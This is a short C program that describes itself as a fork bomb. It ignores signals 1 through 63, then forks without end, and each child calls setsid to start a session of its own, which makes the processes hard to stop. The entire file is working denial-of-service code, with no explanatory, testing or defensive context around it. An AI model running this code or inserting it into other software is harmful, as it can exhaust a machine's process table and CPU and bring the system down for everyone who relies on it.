/* A fork bomb whose processes ignore every signal that can be ignored, and lead sessions of their own. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
	for (int i = 1; i < 64; i++)
		(void)signal(i, SIG_IGN);
	for (;;)
		if (fork() == 0)
			(void)setsid();
}
